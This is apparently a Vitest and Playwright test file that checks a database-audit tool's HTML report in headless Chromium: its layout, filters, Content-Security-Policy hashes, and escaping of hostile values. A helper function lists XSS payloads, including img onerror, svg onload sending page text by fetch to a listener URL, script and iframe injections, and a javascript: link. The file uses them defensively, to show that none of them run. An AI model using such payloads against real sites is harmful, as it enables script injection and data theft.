import { createHash } from 'node:crypto';
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium, type Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderAuditHtml } from '../../src/render/audit-html.js';
import {
  ROW_CLASSES,
  type EntityAudit,
  type Mismatch,
  type RowClass,
} from '../../src/core/audit/types.js';
import type { EntityGraph } from '../../src/core/entities/graph.js';
import { compareKeys } from '../../src/core/methods/key-order.js';
import { auditTotals } from '../../src/core/audit/result.js';
import { fixtureEnv, runCli } from '../support/cli.js';
import { useFixtureDatabases } from '../support/databases.js';
import { buildAuditScenario, u } from '../support/editor-scenario.js';
import { FIXTURE_CONFIG } from '../support/paths.js';

/**
 * Debian's chromium (`.ci/run` installs it); CI sets SFSYNC_REQUIRE_BROWSER so a missing browser
 * fails rather than skips.
 */
const CHROMIUM = process.env.SFSYNC_CHROMIUM ?? '/usr/bin/chromium';
const available = existsSync(CHROMIUM);
if (!available && process.env.SFSYNC_REQUIRE_BROWSER)
  throw new Error(`SFSYNC_REQUIRE_BROWSER is set but there is no browser at ${CHROMIUM}`);

const db = useFixtureDatabases();
let browser: Browser;
let report: string;
let grownReport: string;

beforeAll(async () => {
  if (!available) return;
  await buildAuditScenario(db);
  // A key that would run script if the report did not escape it.
  await db.mirror(`insert into salesforce.editor__c (editoruuid__c, name) values ($1, 'x')`, [
    '<img src=x onerror="document.title=1">',
  ]);
  const dir = await mkdtemp(join(tmpdir(), 'sfsync-html-'));
  report = join(dir, 'report.html');
  const audit = (...args: string[]) =>
    runCli(['audit', '--config', FIXTURE_CONFIG, ...args], { env: fixtureEnv(db) });
  for (let i = 0; i < 2; i++) await audit('--record');
  const { code } = await audit('--record', '--html', report);
  expect(code).toBe(1);
  // Then one more absent school: last night's run against the three recorded ones.
  await db.source(
    `INSERT INTO schools (id, name, website, municipality, country_code)
     VALUES ($1, 'Grown School', 'https://example.org', 'Cambridge', 'gb')`,
    [u(990)],
  );
  grownReport = join(dir, 'grown.html');
  const grown = await audit('--fail-on-increase', '--html', grownReport);
  expect(grown.code).toBe(1);
  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-quic',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
    ],
  });
}, 120_000);

afterAll(async () => {
  await browser?.close();
});

describe.skipIf(!available)('--html in headless Chromium', () => {
  it('one self-contained page: entity bars, graph, trend, list; no other requests', async () => {
    const page = await browser.newPage({ viewport: { width: 1300, height: 900 } });
    const requests: string[] = [];
    const problems: string[] = [];
    page.on('request', (request) => requests.push(request.url()));
    page.on('console', (message) => {
      if (message.type() === 'error') problems.push(message.text());
    });
    page.on('pageerror', (error) => problems.push(error.message));
    const url = pathToFileURL(report).href;
    await page.goto(url);

    expect(await page.title()).toBe('sfsync audit: 16 mismatches');
    // Nothing the policy would have to allow by 'unsafe-inline' or 'unsafe-hashes': no style
    // attribute, no event handler attribute.
    const attributes =
      "[...document.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name))";
    expect(
      await page.evaluate(
        `${attributes}.filter((name) => name === 'style' || name.startsWith('on'))`,
      ),
    ).toEqual([]);
    // The README's picture of the report: SFSYNC_SCREENSHOT=docs/audit-report.png npx vitest run
    // test/e2e/html-report.test.ts
    await page.screenshot({
      path: process.env.SFSYNC_SCREENSHOT ?? join(tmpdir(), 'sfsync-report.png'),
    });
    expect(
      await page
        .locator('svg.bars g[data-entity]')
        .evaluateAll((gs) => gs.map((g) => g.getAttribute('data-entity'))),
    ).toEqual(['school', 'role', 'school_class', 'class_teacher', 'lesson']);
    expect(
      await page
        .locator('svg.bars g[data-entity="role"] rect.segment')
        .evaluateAll((rs) => rs.map((r) => r.getAttribute('data-class'))),
    ).toEqual(['missing_parent', 'failed', 'absent', 'drift']);
    expect(await page.locator('svg.graph g.node').count()).toBe(6);
    expect(await page.locator('svg.graph path.edge').count()).toBe(7);
    expect(await page.locator('svg.graph g.node[data-entity="role"] text').textContent()).toBe(
      '3. role (7)',
    );
    expect(await page.locator('svg.trend circle.run').count()).toBe(3);
    expect(await page.locator('#entities tbody tr').count()).toBe(6);

    const visible = () => page.locator('#list tbody tr:not([hidden])').count();
    expect(await visible()).toBe(16);
    await page.selectOption('#f-entity', 'role');
    expect(await visible()).toBe(7);
    await page.selectOption('#f-class', 'failed');
    expect(await visible()).toBe(1);
    expect(await page.locator('#shown').textContent()).toBe('1 of 16 shown');
    await page.selectOption('#f-entity', '');
    await page.selectOption('#f-class', '');
    await page.fill('#f-text', 'FOREIGN_KEY_NOT_FOUND');
    expect(await visible()).toBeGreaterThan(1);
    await page.fill('#f-text', '');

    // The hostile key is text, not an element: no image was requested and the title stayed.
    expect(await page.locator('#list code', { hasText: '<img src=x' }).count()).toBe(1);
    expect(await page.locator('#list img').count()).toBe(0);
    expect(requests).toEqual([url]);
    expect(problems).toEqual([]);

    await page.close();
  });

  it('at 800 px: why it failed first, then where and what with; nothing wider', async () => {
    const page = await browser.newPage({ viewport: { width: 800, height: 1000 } });
    await page.goto(pathToFileURL(grownReport).href);
    expect(await page.locator('header .verdict').textContent()).toBe(
      'Exit 1: 1 class grew since the previous recorded run (below).',
    );
    // The growth comes before the charts and the list.
    const sections = await page
      .locator('section')
      .evaluateAll((all) => all.map((section) => section.id));
    expect(sections[0]).toBe('grew');
    expect(
      await page
        .locator('#grew tbody tr')
        .evaluateAll((rows) =>
          rows.map((row) => [...row.querySelectorAll('td')].map((td) => td.textContent)),
        ),
    ).toEqual([['school', 'absent', '1', '2', '+1']]);
    const meta = (await page.locator('header .meta').textContent())!;
    expect(meta).toMatch(/source 127\.0\.0\.1:\d+\/\w+ \(schema public\)/);
    expect(meta).toMatch(/mirror 127\.0\.0\.1:\d+\/\w+ \(schema salesforce\)/);
    expect(meta).toMatch(/sfsync \d+\.\d+\.\d+/);
    expect(meta).not.toMatch(/postgres:|password|@/);
    // The trend's axis is dated.
    expect(await page.locator('svg.trend text.date').count()).toBeGreaterThanOrEqual(2);
    expect(await page.locator('svg.trend text.date').first().textContent()).toMatch(/^\d\d-\d\d /);
    // Narrow, the list is cards, each value labelled; the filters still hide rows.
    expect(await page.locator('#list thead').isVisible()).toBe(false);
    expect(await page.locator('#worst thead').isVisible()).toBe(false);
    await page.selectOption('#f-class', 'absent');
    expect(await page.locator('#list tbody tr:visible').count()).toBe(3);
    await page.selectOption('#f-class', '');
    // No horizontal scrolling of the page itself: wide tables scroll inside their section.
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBeLessThanOrEqual(800);
    await page.screenshot({
      path: process.env.SFSYNC_SCREENSHOT_800 ?? join(tmpdir(), 'sfsync-report-800.png'),
      fullPage: true,
    });
    await page.close();
  });

  it('its CSP forbids every fetch and allows only its own style and script, by hash', async () => {
    const html = await readFile(report, 'utf8');
    const [styles, scripts] = [
      [...html.matchAll(/<style>(.*?)<\/style>/gs)],
      [...html.matchAll(/<script>(.*?)<\/script>/gs)],
    ];
    expect([styles.length, scripts.length]).toEqual([1, 1]);
    const hash = (text: string) =>
      `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;
    // The attribute's quotes are escaped like every value in the page (&#39;), which the browser
    // reads as '.
    const policy = /http-equiv="Content-Security-Policy" content="([^"]*)"/
      .exec(html)![1]!
      .replaceAll('&#39;', "'");
    expect(policy).toBe(
      `default-src 'none'; style-src ${hash(styles[0]![1]!)}; ` +
        `script-src ${hash(scripts[0]![1]!)}; base-uri 'none'; form-action 'none'`,
    );
    expect(html).not.toContain('unsafe-inline');
    expect(html).not.toMatch(/(src|href)="https?:/);
  });

  it('runs no script but its own: one added to the page is refused by the policy', async () => {
    const html = await readFile(report, 'utf8');
    const tampered = join(dirname(report), 'tampered.html');
    await writeFile(
      tampered,
      html.replace('</body>', '<script>window.__pwned = 1</script></body>'),
    );
    const page = await browser.newPage();
    const violations: string[] = [];
    page.on('console', (message) => violations.push(message.text()));
    await page.goto(pathToFileURL(tampered).href);
    expect(await page.evaluate('typeof window.__pwned')).toBe('undefined');
    expect(violations.join('\n')).toMatch(/Content Security Policy/);
    // The page's own script ran: filtering works.
    await page.selectOption('#f-entity', 'role');
    expect(await page.locator('#list tbody tr:not([hidden])').count()).toBe(7);
    await page.close();
  });
});

/**
 * Script in every form a forged value might carry it, each reporting to `listener` (or setting
 * window.__pwned) if it ran.
 */
function payloads(listener: string): string[] {
  return [
    '<script>window.__pwned = "script"</script>',
    `<img src=x onerror="window.__pwned = 'img'; fetch('${listener}/img')">`,
    `"><svg onload="fetch('${listener}/attr?' + document.body.innerText)">`,
    `'><script>fetch('${listener}/quote')</script>`,
    '</code></td></tr></tbody></table></title></style></script>' +
      `<script>fetch('${listener}/close')</script>`,
    `<iframe srcdoc="<script>parent.__pwned='iframe'</script>"></iframe>`,
    `<a href="javascript:window.__pwned='href'">x</a>`,
  ];
}

/**
 * Every string a merged report shows that validation lets through (a key, a reason, a hint, error
 * texts, mirror values), set to `value`.
 */
function poison(mismatch: any, value: string): void {
  Object.assign(mismatch, { key: `${mismatch.key} ${value}`, reason: value, hint: value });
  mismatch.error = {
    statusCode: value,
    message: value,
    value,
    field: value,
    object: value,
    fields: [value],
    duplicateOf: value,
  };
  mismatch.mirror = { id: 1, sfid: value, lastop: value, hcErr: value };
  if (mismatch.parent) mismatch.parent.key = value;
}

describe.skipIf(!available)('merge --html of a forged shard report, in headless Chromium', () => {
  let listener: Server;
  let listenerUrl: string;
  const arrived: string[] = [];
  let dir: string;
  let shards: string[];

  beforeAll(async () => {
    listener = createServer((request, response) => {
      arrived.push(request.url ?? '');
      response.end();
    });
    await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
    listenerUrl = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
    dir = await mkdtemp(join(tmpdir(), 'sfsync-forged-'));
    shards = [];
    for (let k = 1; k <= 2; k++) {
      const { stdout } = await runCli(
        ['audit', '--config', FIXTURE_CONFIG, '--shard', `${k}/2`, '--format', 'json'],
        { env: fixtureEnv(db) },
      );
      const doc = JSON.parse(stdout);
      if (k === 2) {
        // Every mismatch of shard 2 carries script in every string merge accepts, one payload per
        // mismatch in turn.
        const all = payloads(listenerUrl);
        let n = 0;
        for (const entity of doc.entities)
          for (const m of entity.mismatches) poison(m, all[n++ % all.length]!);
        expect(n).toBeGreaterThanOrEqual(all.length);
        for (const entity of doc.entities)
          entity.mismatches.sort((a: any, b: any) => compareKeys(a.key, b.key));
      }
      shards.push(join(dir, `shard-${k}.json`));
      await writeFile(shards.at(-1)!, JSON.stringify(doc, null, 2));
    }
  }, 60_000);

  afterAll(() => new Promise<void>((resolve) => listener.close(() => resolve())));

  for (const bypassCSP of [false, true]) {
    const how = bypassCSP ? 'with the policy switched off: escaping alone' : 'with the policy';
    it(`renders every hostile value as text, runs no script but its own (${how})`, async () => {
      const html = join(dir, `merged-${bypassCSP}.html`);
      const merged = await runCli(
        ['merge', '--config', FIXTURE_CONFIG, '--html', html, ...shards],
        { env: {} },
      );
      expect(merged.stderr).toBe('');
      expect(merged.code).toBe(1);
      const context = await browser.newContext({ bypassCSP });
      const page = await context.newPage();
      const requests: string[] = [];
      page.on('request', (request) => requests.push(request.url()));
      const url = pathToFileURL(html).href;
      await page.goto(url);
      await page.waitForLoadState('load');

      expect(await page.evaluate('typeof window.__pwned')).toBe('undefined');
      expect(
        await page
          .locator(
            '#list img, #list svg[onload], #list iframe, #list a, #list script, ' +
              '#offenders script, #offenders img',
          )
          .count(),
      ).toBe(0);
      expect(await page.locator('script').count()).toBe(1);
      // The payloads are there, as text.
      expect(
        await page.locator('#list code', { hasText: '<script>window.__pwned' }).count(),
      ).toBeGreaterThan(0);
      expect(
        await page.locator('#list td', { hasText: `fetch('${listenerUrl}/close')` }).count(),
      ).toBeGreaterThan(0);
      // The page's own script works: filters filter, including by the hostile text.
      const visible = () => page.locator('#list tbody tr:not([hidden])').count();
      const all = await visible();
      await page.fill('#f-text', '<iframe srcdoc=');
      expect(await visible()).toBeGreaterThan(0);
      expect(await visible()).toBeLessThan(all);
      await page.fill('#f-text', '');
      await page.selectOption('#f-entity', 'role');
      expect(await visible()).toBe(7);
      // Enter in the text box submits nothing (the form's submit is the page script's, not an
      // inline handler).
      await page.fill('#f-text', 'x');
      await page.press('#f-text', 'Enter');
      expect(page.url()).toBe(url);

      expect(requests).toEqual([url]);
      expect(arrived).toEqual([]);
      await context.close();
    });
  }
});

describe.skipIf(!available)(
  'the HTML renderer on its own, given hostile values even where validation would refuse them',
  () => {
    it('also escapes entity names, classes, codes and parent states (every value)', async () => {
      const hostile = '"><img src=x onerror="window.__pwned=1">';
      const mismatch = {
        key: hostile,
        class: hostile,
        code: hostile,
        repairable: false,
        reason: hostile,
        hint: hostile,
        error: null,
        mirror: null,
        rows: null,
        parent: { entity: hostile, key: hostile, state: hostile },
        fields: [],
        ageSeconds: null,
        sourceRows: null,
      } as unknown as Mismatch;
      const counts = Object.fromEntries(ROW_CLASSES.map((c) => [c, 0])) as Record<RowClass, number>;
      const entity: EntityAudit = {
        name: hostile,
        method: 'join',
        methodChoice: null,
        keysReadInFull: 1,
        readOnly: false,
        mirrorTable: hostile,
        sourceRows: 1,
        mirrorRows: 1,
        unsyncedRows: 0,
        oldestUnsyncedAgeSeconds: null,
        sourceRowsWithoutKey: 0,
        counts: { ...counts, failed: 1 },
        mismatches: [mismatch],
      };
      const now = new Date();
      const graph = {
        order: [hostile],
        levels: [[hostile]],
        parentsOf: new Map([[hostile, []]]),
      } as unknown as EntityGraph;
      const text = renderAuditHtml(
        {
          startedAt: now,
          finishedAt: now,
          order: [hostile],
          entities: [entity],
          totals: auditTotals([entity]),
        },
        {
          graph,
          trend: [{ label: hostile, value: 1 }],
          increases: [{ entity: hostile, class: 'failed', before: 0, after: 1 }],
          exitCode: 1,
          failOnIncrease: true,
          databases: [hostile],
          version: hostile,
        },
      );
      const file = join(await mkdtemp(join(tmpdir(), 'sfsync-render-')), 'hostile.html');
      await writeFile(file, text);
      const context = await browser.newContext({ bypassCSP: true });
      const page = await context.newPage();
      await page.goto(pathToFileURL(file).href);
      expect(await page.evaluate('typeof window.__pwned')).toBe('undefined');
      expect(await page.locator('img').count()).toBe(0);
      expect(await page.locator('#list td', { hasText: hostile }).count()).toBeGreaterThanOrEqual(
        4,
      );
      expect(await page.locator('svg.graph title', { hasText: hostile }).count()).toBe(1);
      await context.close();
    });
  },
);
